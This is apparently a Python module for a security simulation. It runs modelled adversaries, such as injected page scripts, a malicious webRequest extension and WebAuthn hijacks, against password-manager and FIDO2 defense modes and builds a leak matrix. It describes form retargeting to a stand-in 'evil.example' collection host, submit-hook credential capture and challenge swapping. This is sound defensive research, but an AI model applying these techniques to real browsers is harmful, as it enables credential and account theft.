"""Local adversaries and the security matrix they produce.

Three password-stealing adversary classes run against five defense modes:

- dom_observer: honest-but-curious page script, passive field reads
- dom_exfiltrator: injected script with full DOM control (reads, submit
  hooks, field renames, form retargeting)
- webrequest_exfiltrator: an extension holding webRequest, listening and
  optionally cancelling or redirecting

Each (mode, adversary) cell runs one canonical strategy plus seeded random
variations. The leak verdict never trusts attacker code: an independent
checker scans everything the attacker's scripts observed, its extension
saw in stage views, and its collection server received, for the real
secrets. Outcomes carry sha256 digests of leaked values, never the values.

Two FIDO2 adversaries are evaluated separately: fido2_dom overrides the
page's WebAuthn entry points, fido2_request intercepts the finish request
from the pipeline. Both try to hijack a registration and a login.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from random import Random
from typing import Optional, Sequence

from .dom import (
    AddField,
    FieldKind,
    HookKind,
    Provenance,
    RegisterSubmitHook,
    RenameField,
    ScriptHandle,
    SetFormAction,
    SubmitHook,
    DuplicateField,
    attach_script,
    read_rendered_text,
    script_read_field,
    script_mutate,
)
from .extensions import Extension, ExtensionManifest, Permission
from .fido2 import (
    AUTHENTICATION,
    HEADER_REQUEST,
    REGISTRATION,
    AuthenticatorDevice,
    Fido2Request,
    MalformedPayload,
    RelyingParty,
    response_from_json,
)
from .http_model import (
    MalformedBody,
    Origin,
    RequestBody,
    Url,
    WebRequestRecord,
    ChannelSecurity,
    decode_urlencoded,
    sha256_hex,
    urlencode_entries,
)
from .pipeline import Cancel, DefenseMode, Redirect, Stage, StageView
from .rng import derive_seed, substream
from .session import BrowserSession, FlowResult
from .sites import ServerFarm, SiteProfile, build_login_page, site_vault_entry

__all__ = [
    "AttackOutcome",
    "AttackScenario",
    "EXPECTED_MATRIX",
    "FIDO2_ADVERSARIES",
    "MatrixCell",
    "MatrixReport",
    "PASSWORD_ADVERSARIES",
    "evaluate_fido2_cells",
    "evaluate_matrix",
    "find_leaks",
    "run_fido2_scenario",
    "run_reflection_attack",
    "run_scenario",
]

PASSWORD_ADVERSARIES = ("dom_observer", "dom_exfiltrator", "webrequest_exfiltrator")
FIDO2_ADVERSARIES = ("fido2_dom", "fido2_request")

# cell verdicts the design is expected to produce
EXPECTED_MATRIX: dict[str, dict[str, str]] = {
    "baseline": {
        "dom_observer": "unprotected",
        "dom_exfiltrator": "unprotected",
        "webrequest_exfiltrator": "unprotected",
    },
    "design3_dom": {
        "dom_observer": "protected",
        "dom_exfiltrator": "unprotected",
        "webrequest_exfiltrator": "unprotected",
    },
    "design4_api_early": {
        "dom_observer": "protected",
        "dom_exfiltrator": "protected",
        "webrequest_exfiltrator": "unprotected",
    },
    "design5_api_late": {
        "dom_observer": "protected",
        "dom_exfiltrator": "protected",
        "webrequest_exfiltrator": "protected",
    },
    "manifest_v3": {
        "dom_observer": "protected",
        "dom_exfiltrator": "protected",
        "webrequest_exfiltrator": "protected",
    },
}

EXPECTED_FIDO2_CELLS: dict[str, dict[str, str]] = {
    "legacy": {"fido2_dom": "unprotected", "fido2_request": "unprotected"},
    "header_channel": {"fido2_dom": "protected", "fido2_request": "protected"},
}

ATTACKER_EXTENSION_ID = "evil.collector"
CAPTURE_ORIGIN = Origin("https", "evil.example", 443)


@dataclass(frozen=True)
class AttackScenario:
    name: str
    adversary: str
    defense_mode: DefenseMode
    seed: int
    strategy_index: int = 0
    site_category: str = "plain_post"


@dataclass(frozen=True)
class AttackOutcome:
    """What one attack run achieved. Leaked values appear as digests only."""

    scenario: str
    adversary: str
    defense: str
    strategy_index: int
    secret_leaked: bool
    leaked_digests: tuple[str, ...] = ()
    attacker_login: bool = False
    attacker_registered: bool = False
    notes: tuple[str, ...] = ()


def find_leaks(
    secrets: Sequence[str], observations: Sequence[str]
) -> tuple[tuple[str, ...], bool]:
    """Scan attacker-visible text for secrets; return digests of any hits.

    Each secret is matched both verbatim and in its form-encoded shape, so
    secrets survive detection inside percent-encoded request bodies.
    """
    leaked: set[str] = set()
    for secret in secrets:
        if not secret:
            continue
        encoded = urlencode_entries((("k", secret),))[2:]
        for text in observations:
            if secret in text or encoded in text:
                leaked.add(secret)
                break
    return tuple(sorted(sha256_hex(s) for s in leaked)), bool(leaked)


# ---------------------------------------------------------------------------
# password adversaries
# ---------------------------------------------------------------------------


@dataclass(eq=False)
class _ScenarioContext:
    session: BrowserSession
    page: object
    form_id: str
    farm: ServerFarm
    capture_sink: list[str]


class _PasswordAgent:
    """Shared scaffolding: a plan of moves, executed around the login flow."""

    def __init__(self, rng: Random, strategy_index: int) -> None:
        self.rng = rng
        self.canonical = strategy_index == 0
        self.scripts: list[ScriptHandle] = []
        self.extension: Optional[Extension] = None
        self.knowledge: list[str] = []  # out-of-band stash (replayed payloads etc.)

    def pre_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
        pass

    def post_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
        pass

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        pass

    def observations(self, ctx: _ScenarioContext) -> list[str]:
        out: list[str] = []
        for script in self.scripts:
            out.extend(script.log)
        if self.extension is not None:
            out.extend(str(item) for item in self.extension.observations)
        out.extend(ctx.capture_sink)
        out.extend(self.knowledge)
        return out

    # helpers ---------------------------------------------------------------

    def _read(self, ctx: _ScenarioContext, script: ScriptHandle, field_name: str) -> None:
        try:
            script_read_field(script, ctx.page, ctx.form_id, field_name)
        except KeyError:
            pass


class _DomObserverAgent(_PasswordAgent):
    """Passive page library: reads what the DOM will give it, nothing more."""

    adversary = "dom_observer"

    def __init__(self, rng: Random, strategy_index: int) -> None:
        super().__init__(rng, strategy_index)
        if self.canonical:
            self.plan = {"read_pre": True, "read_post": True, "read_rendered": True}
        else:
            self.plan = {
                "read_pre": rng.random() < 0.5,
                "read_post": rng.random() < 0.9,
                "read_rendered": rng.random() < 0.5,
            }

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        script = ScriptHandle("analytics.js", Provenance.LIBRARY)
        attach_script(ctx.page, script)
        self.scripts.append(script)
        if self.plan["read_pre"]:
            self._read(ctx, script, "password")
            self._read(ctx, script, "username")

    def post_autofill(self, ctx: _ScenarioContext) -> None:
        if self.plan["read_post"]:
            self._read(ctx, self.scripts[0], "password")
            self._read(ctx, self.scripts[0], "username")

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        if self.plan["read_rendered"]:
            read_rendered_text(self.scripts[0], ctx.page)


class _DomExfiltratorAgent(_PasswordAgent):
    """Injected script with full DOM control over the login page."""

    adversary = "dom_exfiltrator"

    def __init__(self, rng: Random, strategy_index: int) -> None:
        super().__init__(rng, strategy_index)
        if self.canonical:
            # the late submit hook is the strongest move: it fires after any
            # in-page value swap a defense may have installed
            self.plan = {
                "read_post": True,
                "hook_pre": False,
                "hook_post": True,
                "rename": False,
                "retarget": False,
                "add_field": False,
                "read_rendered": True,
            }
        else:
            self.plan = {
                "read_post": rng.random() < 0.8,
                "hook_pre": rng.random() < 0.3,
                "hook_post": rng.random() < 0.7,
                "rename": rng.random() < 0.25,
                "retarget": rng.random() < 0.3,
                "add_field": rng.random() < 0.2,
                "read_rendered": rng.random() < 0.6,
            }

    def _script(self, ctx: _ScenarioContext) -> ScriptHandle:
        if not self.scripts:
            script = ScriptHandle("xss-payload", Provenance.XSS)
            attach_script(ctx.page, script)
            self.scripts.append(script)
        return self.scripts[0]

    def _hook(self, ctx: _ScenarioContext) -> None:
        script = self._script(ctx)
        script_mutate(
            script,
            ctx.page,
            RegisterSubmitHook(
                ctx.form_id, SubmitHook(kind=HookKind.CAPTURE_FIELDS, sink=script)
            ),
        )

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        script = self._script(ctx)
        if self.plan["hook_pre"]:
            self._hook(ctx)
        if self.plan["add_field"]:
            try:
                script_mutate(script, ctx.page, AddField(ctx.form_id, "tracker", FieldKind.HIDDEN, "1"))
            except DuplicateField:
                pass

    def post_autofill(self, ctx: _ScenarioContext) -> None:
        script = self._script(ctx)
        if self.plan["read_post"]:
            self._read(ctx, script, "password")
            self._read(ctx, script, "username")
        if self.plan["hook_post"]:
            self._hook(ctx)
        if self.plan["rename"]:
            try:
                script_mutate(script, ctx.page, RenameField(ctx.form_id, "password", "q"))
            except (DuplicateField, KeyError):
                pass
        if self.plan["retarget"]:
            script_mutate(
                script,
                ctx.page,
                SetFormAction(
                    ctx.form_id,
                    Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/collect"),
                ),
            )

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        if self.plan["read_rendered"]:
            read_rendered_text(self._script(ctx), ctx.page)


class _WebRequestExfiltratorAgent(_PasswordAgent):
    """Extension with webRequest: listens everywhere, may cancel or redirect."""

    adversary = "webrequest_exfiltrator"

    def __init__(self, rng: Random, strategy_index: int) -> None:
        super().__init__(rng, strategy_index)
        all_stages = list(Stage)
        if self.canonical:
            self.stages = all_stages
            self.blocking_move = "none"
        else:
            self.stages = sorted(
                rng.sample(all_stages, rng.randint(1, len(all_stages))),
                key=all_stages.index,
            )
            self.blocking_move = rng.choices(
                ["none", "redirect", "cancel"], weights=[0.6, 0.25, 0.15]
            )[0]

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        host = ctx.session.host
        manifest = ExtensionManifest(
            ATTACKER_EXTENSION_ID,
            frozenset({Permission.WEB_REQUEST}),
            ("<all_urls>",),
        )
        self.extension = host.install(manifest)
        for stage in self.stages:
            host.register_listener(ATTACKER_EXTENSION_ID, stage, lambda view: None)
        if self.blocking_move == "redirect":
            target = Url(
                CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/steal"
            )

            def redirect_once(view: StageView) -> Optional[Redirect]:
                if view.url.startswith(str(CAPTURE_ORIGIN)):
                    return None
                return Redirect(target)

            host.register_listener(
                ATTACKER_EXTENSION_ID, Stage.ON_BEFORE_REQUEST, redirect_once, blocking=True
            )
        elif self.blocking_move == "cancel":
            host.register_listener(
                ATTACKER_EXTENSION_ID,
                Stage.ON_BEFORE_REQUEST,
                lambda view: Cancel("dropped"),
                blocking=True,
            )


_AGENTS = {
    "dom_observer": _DomObserverAgent,
    "dom_exfiltrator": _DomExfiltratorAgent,
    "webrequest_exfiltrator": _WebRequestExfiltratorAgent,
}


def run_scenario(scenario: AttackScenario) -> AttackOutcome:
    """One login under attack; returns what the adversary got away with."""
    profile = SiteProfile(
        site_id="target",
        category=scenario.site_category,
        origin=Origin("https", "site.example", 443),
    )
    entry = site_vault_entry(profile, scenario.seed)
    farm = ServerFarm(scenario.seed)
    farm.add_site(profile, entry.password)
    capture_sink: list[str] = []
    farm.add_capture_origin(CAPTURE_ORIGIN, capture_sink)
    session = BrowserSession(
        scenario.seed, scenario.defense_mode, [entry], farm.serve, name="victim"
    )
    page, form_id = build_login_page(session, profile)
    ctx = _ScenarioContext(session, page, form_id, farm, capture_sink)
    agent = _AGENTS[scenario.adversary](
        substream(scenario.seed, "strategy"), scenario.strategy_index
    )
    agent.pre_autofill(ctx)
    session.autofill(page, form_id)
    agent.post_autofill(ctx)
    result = session.submit(page, form_id)
    agent.post_response(ctx, result)
    leaked_digests, leaked = find_leaks([entry.password], agent.observations(ctx))
    return AttackOutcome(
        scenario=scenario.name,
        adversary=scenario.adversary,
        defense=scenario.defense_mode.value,
        strategy_index=scenario.strategy_index,
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        notes=("cancelled",) if result.cancelled else (),
    )


# ---------------------------------------------------------------------------
# the matrix
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class MatrixCell:
    defense: str
    adversary: str
    strategies: int
    leaks: int

    @property
    def verdict(self) -> str:
        return "unprotected" if self.leaks else "protected"


@dataclass
class MatrixReport:
    seed: int
    strategies_per_cell: int
    cells: list[MatrixCell] = field(default_factory=list)

    def verdict(self, defense: str, adversary: str) -> str:
        for cell in self.cells:
            if cell.defense == defense and cell.adversary == adversary:
                return cell.verdict
        raise KeyError((defense, adversary))

    def verdicts(self) -> dict[str, dict[str, str]]:
        out: dict[str, dict[str, str]] = {}
        for cell in self.cells:
            out.setdefault(cell.defense, {})[cell.adversary] = cell.verdict
        return out

    def mismatches(self, expected: dict[str, dict[str, str]] = EXPECTED_MATRIX) -> list[str]:
        problems = []
        for defense, row in expected.items():
            for adversary, verdict in row.items():
                try:
                    got = self.verdict(defense, adversary)
                except KeyError:
                    problems.append(f"{defense}/{adversary}: missing")
                    continue
                if got != verdict:
                    problems.append(f"{defense}/{adversary}: expected {verdict}, got {got}")
        return problems

    def to_json(self) -> dict:
        return {
            "kind": "matrix",
            "seed": self.seed,
            "strategies_per_cell": self.strategies_per_cell,
            "cells": {
                cell.defense: {
                    c.adversary: {
                        "verdict": c.verdict,
                        "leaks": c.leaks,
                        "strategies": c.strategies,
                    }
                    for c in self.cells
                    if c.defense == cell.defense
                }
                for cell in self.cells
            },
        }

    def render_text(self) -> str:
        adversaries = list(PASSWORD_ADVERSARIES)
        width = max(len(a) for a in adversaries) + 2
        lines = [
            f"security matrix (seed={self.seed}, strategies per cell={self.strategies_per_cell})",
            "",
            "defense".ljust(20) + "".join(a.ljust(width) for a in adversaries),
        ]
        for defense in self.verdicts():
            row = defense.ljust(20)
            for adversary in adversaries:
                row += self.verdict(defense, adversary).ljust(width)
            lines.append(row.rstrip())
        return "\n".join(lines) + "\n"


def evaluate_matrix(
    seed: int,
    strategies_per_cell: int = 100,
    modes: Sequence[DefenseMode] = tuple(DefenseMode),
    adversaries: Sequence[str] = PASSWORD_ADVERSARIES,
) -> MatrixReport:
    report = MatrixReport(seed=seed, strategies_per_cell=strategies_per_cell)
    for mode in modes:
        for adversary in adversaries:
            leaks = 0
            for index in range(strategies_per_cell):
                scenario = AttackScenario(
                    name=f"{mode.value}/{adversary}/{index}",
                    adversary=adversary,
                    defense_mode=mode,
                    seed=derive_seed(seed, "matrix", mode.value, adversary, str(index)),
                    strategy_index=index,
                )
                if run_scenario(scenario).secret_leaked:
                    leaks += 1
            report.cells.append(
                MatrixCell(mode.value, adversary, strategies_per_cell, leaks)
            )
    return report


# ---------------------------------------------------------------------------
# the reflection attack
# ---------------------------------------------------------------------------


def run_reflection_attack(
    seed: int, *, pinning: bool, variant: str = "retarget"
) -> AttackOutcome:
    """Retarget or rename a login form so the site reflects the secret back.

    `retarget` points the form at an echo endpoint on the same origin;
    `rename` additionally moves the nonce into a field name the endpoint
    reflects. Submit-URL pinning decides the retarget case; the field-name
    check decides the rename case regardless of pinning.
    """
    if variant not in ("retarget", "rename"):
        raise ValueError(f"unknown variant {variant!r}")
    reflect_option = ("reflect", "all" if variant == "retarget" else "username")
    profile = SiteProfile(
        site_id="forum",
        category="reflecting",
        origin=Origin("https", "forum.example", 443),
        options=(reflect_option,),
    )
    entry = site_vault_entry(profile, seed)
    farm = ServerFarm(seed)
    farm.add_site(profile, entry.password)
    session = BrowserSession(
        seed,
        DefenseMode.DESIGN5_API_LATE,
        [entry],
        farm.serve,
        name="victim",
        pinning_enabled=pinning,
    )

    # an earlier honest login teaches the manager the submit URL
    page1, form1 = build_login_page(session, profile)
    session.autofill(page1, form1)
    session.submit(page1, form1)

    page2, form2 = build_login_page(session, profile)
    session.autofill(page2, form2)
    script = ScriptHandle("xss-payload", Provenance.XSS)
    attach_script(page2, script)
    reflect_url = Url(profile.origin.scheme, profile.origin.host, profile.origin.port, "/reflect")
    script_mutate(script, page2, SetFormAction(form2, reflect_url))
    if variant == "rename":
        script_mutate(script, page2, RenameField(form2, "username", "q"))
        script_mutate(script, page2, RenameField(form2, "password", "username"))
    result = session.submit(page2, form2)
    read_rendered_text(script, page2)

    leaked_digests, leaked = find_leaks([entry.password], list(script.log))
    last_decision = session.manager.decisions[-1][1] if session.manager.decisions else None
    notes = [f"variant={variant}", f"pinning={'on' if pinning else 'off'}"]
    if last_decision is not None and not last_decision.approved:
        notes.append(f"refused_by_check={last_decision.reason}")
    elif last_decision is not None:
        notes.append("substitution_approved")
    if result.verdict is not None:
        notes.append(f"verdict={result.verdict}")
    return AttackOutcome(
        scenario=f"reflection/{variant}/pinning_{'on' if pinning else 'off'}",
        adversary="reflection",
        defense=DefenseMode.DESIGN5_API_LATE.value,
        strategy_index=0,
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        notes=tuple(notes),
    )


# ---------------------------------------------------------------------------
# FIDO2 adversaries
# ---------------------------------------------------------------------------


class _CreateHijack:
    """Wraps the page WebAuthn surface; registrations run the attacker's key."""

    def __init__(self, original, attacker_device: AuthenticatorDevice, script: ScriptHandle):
        self.original = original
        self.attacker_device = attacker_device
        self.script = script

    def create(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        request = Fido2Request.from_json(payload_json)
        attestation = self.attacker_device.make_credential(request)
        out = attestation.to_json()
        self.script.observe(out)
        return out

    def get(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        return self.original.get(payload_json)


class _AssertHijack:
    """Swaps the attacker's challenge into whatever the page hands the API."""

    def __init__(self, original, attacker_challenge: bytes, script: ScriptHandle):
        self.original = original
        self.attacker_challenge = attacker_challenge
        self.script = script
        self.captured: list[str] = []

    def create(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        return self.original.create(payload_json)

    def get(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        request = Fido2Request.from_json(payload_json)
        forged = replace(request, challenge=self.attacker_challenge)
        signed = self.original.get(forged.to_json())
        self.script.observe(signed)
        self.captured.append(signed)
        return "{}"  # the page gets junk; the attacker keeps the signature


def _out_of_band_finish(farm: ServerFarm, origin: Origin, payload_json: str) -> str:
    """The attacker submits a finish from its own machine, not the browser."""
    body = RequestBody.urlencoded((("webauthn", payload_json),))
    request = WebRequestRecord(
        request_id=990_000,
        method="POST",
        url=Url(origin.scheme, origin.host, origin.port, "/webauthn/finish"),
        headers=(("Host", origin.host), ("Content-Type", body.content_type)),
        body=body,
        channel_security=ChannelSecurity.GOOD_TLS,
    )
    _, verdict = farm.serve(request)
    return verdict


def _out_of_band_begin(farm: ServerFarm, origin: Origin, kind: str, username: str) -> str:
    """Fetch a begin payload directly; header stripping never happens here."""
    request = WebRequestRecord(
        request_id=990_001,
        method="GET",
        url=Url(
            origin.scheme,
            origin.host,
            origin.port,
            "/webauthn/begin",
            query=(("kind", kind), ("username", username)),
        ),
        headers=(("Host", origin.host),),
        channel_security=ChannelSecurity.GOOD_TLS,
    )
    response, _ = farm.serve(request)
    header = response.header(HEADER_REQUEST)
    return header if header is not None else response.body.decode("utf-8")


def _account_is_attackers(rp: RelyingParty, username: str, device: AuthenticatorDevice) -> bool:
    stored = rp.accounts.get(username)
    return stored is not None and stored.credential_id in device.credentials


def _finish_body_value(view: StageView) -> Optional[str]:
    if view.body is None:
        return None
    try:
        entries = decode_urlencoded(view.body)
    except MalformedBody:
        return None
    return next((v for n, v in entries if n == "webauthn"), None)


@dataclass(eq=False)
class _Fido2Setup:
    farm: ServerFarm
    session: BrowserSession
    page: object
    rp: RelyingParty
    origin: Origin
    secrets: list[str]


def _fido2_setup(defense_on: bool, seed: int, secrets: list[str]) -> _Fido2Setup:
    profile = SiteProfile("rp", "fido2", Origin("https", "rp.example", 443))
    farm = ServerFarm(seed)
    state = farm.add_site(profile, "unused-password", fido2_defense=defense_on)
    assert state.rp is not None
    state.rp.witness = secrets
    session = BrowserSession(
        seed, DefenseMode.DESIGN5_API_LATE, [], farm.serve, name="victim"
    )
    session.device.witness = secrets
    page, _ = build_login_page(session, profile)
    return _Fido2Setup(farm, session, page, state.rp, profile.origin, secrets)


def _grab_and_cancel(session: BrowserSession, captured: list[str]):
    manifest = ExtensionManifest(
        ATTACKER_EXTENSION_ID, frozenset({Permission.WEB_REQUEST}), ("<all_urls>",)
    )
    extension = session.host.install(manifest)

    def on_before_request(view: StageView):
        if view.url.endswith("/webauthn/finish") and view.method == "POST":
            value = _finish_body_value(view)
            if value is not None:
                captured.append(value)
            return Cancel("intercepted")
        return None

    session.host.register_listener(
        ATTACKER_EXTENSION_ID, Stage.ON_BEFORE_REQUEST, on_before_request, blocking=True
    )
    return extension


def _registration_hijack(
    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
) -> tuple[bool, list[str]]:
    setup = _fido2_setup(defense_on, seed, secrets)
    attacker_device = AuthenticatorDevice("attacker-device", substream(seed, "attacker-device"))
    notes: list[str] = []

    if adversary == "fido2_dom":
        script = ScriptHandle("xss-payload", Provenance.XSS)
        attach_script(setup.page, script)
        setup.page.webauthn = _CreateHijack(setup.page.webauthn, attacker_device, script)
        result = setup.session.fido2_register(setup.page, setup.origin, "victim")
        observations.extend(script.log)
        notes.append(f"victim_finish={result.verdict}")
        registered = _account_is_attackers(setup.rp, "victim", attacker_device)
    else:
        captured: list[str] = []
        extension = _grab_and_cancel(setup.session, captured)
        setup.session.fido2_register(setup.page, setup.origin, "victim")
        observations.extend(str(item) for item in extension.observations)
        observations.extend(captured)
        registered = False
        if captured:
            try:
                challenge = response_from_json(captured[-1]).challenge
            except MalformedPayload:
                challenge = None
            if challenge is not None:
                forged = Fido2Request(
                    kind=REGISTRATION,
                    challenge=challenge,
                    rp_id=setup.origin.host,
                    user_id=b"attacker",
                    user_name="victim",
                )
                attestation = attacker_device.make_credential(forged)
                verdict = _out_of_band_finish(setup.farm, setup.origin, attestation.to_json())
                notes.append(f"attacker_finish={verdict}")
                registered = verdict == "accepted" and _account_is_attackers(
                    setup.rp, "victim", attacker_device
                )
    return registered, notes


def _authentication_hijack(
    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
) -> tuple[bool, list[str]]:
    setup = _fido2_setup(defense_on, seed, secrets)
    notes: list[str] = []

    honest = setup.session.fido2_register(setup.page, setup.origin, "victim")
    notes.append(f"honest_registration={honest.verdict}")

    if adversary == "fido2_dom":
        # the attacker opens its own login transaction directly with the
        # server; stripping only protects responses that cross the browser
        setup.rp.witness = None
        attacker_begin = _out_of_band_begin(setup.farm, setup.origin, AUTHENTICATION, "victim")
        setup.rp.witness = secrets
        attacker_challenge = Fido2Request.from_json(attacker_begin).challenge
        script = ScriptHandle("xss-payload", Provenance.XSS)
        attach_script(setup.page, script)
        hijack = _AssertHijack(setup.page.webauthn, attacker_challenge, script)
        setup.page.webauthn = hijack
        result = setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
        observations.extend(script.log)
        notes.append(f"victim_finish={result.verdict}")
        login = False
        if hijack.captured:
            verdict = _out_of_band_finish(setup.farm, setup.origin, hijack.captured[-1])
            notes.append(f"attacker_finish={verdict}")
            login = verdict == "accepted"
    else:
        captured: list[str] = []
        extension = _grab_and_cancel(setup.session, captured)
        setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
        observations.extend(str(item) for item in extension.observations)
        observations.extend(captured)
        login = False
        if captured:
            verdict = _out_of_band_finish(setup.farm, setup.origin, captured[-1])
            notes.append(f"attacker_finish={verdict}")
            login = verdict == "accepted"
    return login, notes


def run_fido2_scenario(
    adversary: str, *, defense_on: bool, seed: int
) -> AttackOutcome:
    """Registration plus authentication hijack attempts for one adversary."""
    if adversary not in FIDO2_ADVERSARIES:
        raise ValueError(f"unknown FIDO2 adversary {adversary!r}")
    secrets: list[str] = []
    observations: list[str] = []
    registered, notes_a = _registration_hijack(
        adversary, defense_on, derive_seed(seed, "fido2", "registration"), secrets, observations
    )
    login, notes_b = _authentication_hijack(
        adversary, defense_on, derive_seed(seed, "fido2", "authentication"), secrets, observations
    )
    leaked_digests, leaked = find_leaks(secrets, observations)
    return AttackOutcome(
        scenario=f"fido2/{adversary}/{'defended' if defense_on else 'legacy'}",
        adversary=adversary,
        defense="header_channel" if defense_on else "legacy",
        strategy_index=0,
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        attacker_login=login,
        attacker_registered=registered,
        notes=tuple(notes_a + notes_b),
    )


def evaluate_fido2_cells(seed: int) -> dict[str, dict[str, str]]:
    """Verdicts for the four FIDO2 cells, shaped like EXPECTED_FIDO2_CELLS."""
    out: dict[str, dict[str, str]] = {}
    for defense_on, label in ((False, "legacy"), (True, "header_channel")):
        row: dict[str, str] = {}
        for adversary in FIDO2_ADVERSARIES:
            outcome = run_fido2_scenario(
                adversary,
                defense_on=defense_on,
                seed=derive_seed(seed, "fido2-cell", label, adversary),
            )
            compromised = (
                outcome.secret_leaked or outcome.attacker_login or outcome.attacker_registered
            )
            row[adversary] = "unprotected" if compromised else "protected"
        out[label] = row
    return out
